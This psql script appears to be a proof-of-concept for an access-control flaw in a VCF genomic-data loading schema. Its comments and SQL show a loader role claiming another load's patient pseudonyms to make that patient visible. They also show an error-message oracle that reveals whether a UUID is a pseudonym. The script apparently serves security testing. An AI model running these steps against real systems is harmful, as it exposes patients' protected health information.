-- As a vcf_loader member. (a) vcf.samples rows for the attacker's load naming another load's
-- pseudonyms (not in phi_vault for this content): phi_viewer now sees the victim's patient
-- in the attacker's load. (b) the unique-violation DETAIL is an oracle "is this uuid a pseudonym".
\set ON_ERROR_STOP 0
BEGIN;
SELECT load_batch_id AS b FROM vcf.client_claim_load(repeat('7', 64), 1, NULL) \gset
SELECT vcf.client_describe_load(:'b', 'mine.vcf', 'VCFv4.2', 'none', NULL, '',
       ARRAY['372f9a43-2251-4e6d-88a3-53efb5b1042c', '9f56a256-45d4-4cdc-802c-985113dda360']::uuid[]);
SELECT vcf.client_finish_load(:'b', 0, 0, 0, '{}');
COMMIT;
BEGIN;
SELECT load_batch_id AS b FROM vcf.client_claim_load(repeat('8', 64), 1, NULL) \gset
SELECT phi_vault.client_add_pseudonyms(:'b', 'x', ARRAY['372f9a43-2251-4e6d-88a3-53efb5b1042c'::uuid],
       ARRAY['\x50480101'::bytea || decode(repeat('00',32),'hex')], ARRAY[decode(repeat('00',16),'hex')]);
ROLLBACK;
